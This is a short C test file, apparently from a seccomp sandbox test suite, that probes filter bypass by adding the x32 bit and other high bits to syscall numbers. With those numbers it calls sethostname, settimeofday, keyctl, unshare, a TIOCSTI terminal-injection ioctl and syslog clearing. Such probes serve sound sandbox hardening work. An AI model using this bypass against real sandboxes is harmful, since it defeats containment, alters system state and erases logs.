/* Enters the kernel by the numbers of x32, past a filter that does not know them (seccomp(2), CAVEATS). */
#include "common/attack.h"

#define X32 0x40000000L

static void attempt(void) {
    struct timeval past = {1000000000, 0};
    TRY(syscall(X32 | SYS_getpid));
    TRY(syscall(X32 | SYS_sethostname, MARK, strlen(MARK)));
    TRY(syscall(X32 | SYS_settimeofday, &past, NULL));
    TRY(syscall(X32 | SYS_keyctl, 0, -4, 1));
    TRY(syscall(X32 | SYS_socket, 38, 5, 0));
    TRY(syscall(X32 | SYS_unshare, CLONE_NEWUSER));
    TRY(syscall(X32 | 514 /* x32 ioctl */, 0, TIOCSTI, "x"));
    TRY(syscall(X32 | SYS_syslog, 5, NULL, 0));
    TRY(syscall(0x80000000L | SYS_sethostname, MARK, strlen(MARK)));
    TRY(syscall((1L << 32) | SYS_settimeofday, &past, NULL));
}
